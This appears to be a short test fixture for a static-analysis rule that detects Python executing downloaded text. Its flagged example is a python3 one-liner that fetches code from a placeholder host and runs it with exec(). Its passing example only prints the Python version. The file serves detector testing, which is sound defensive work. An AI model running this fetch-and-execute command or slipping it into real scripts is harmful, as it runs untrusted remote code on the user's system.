# ruleid: evaluates-decoded-text-by-python
python3 -c "import urllib.request as u;exec(u.urlopen('https://files.example.test/p').read())"
# ok: evaluates-decoded-text-by-python
python3 -c "import sys; print(sys.version)"
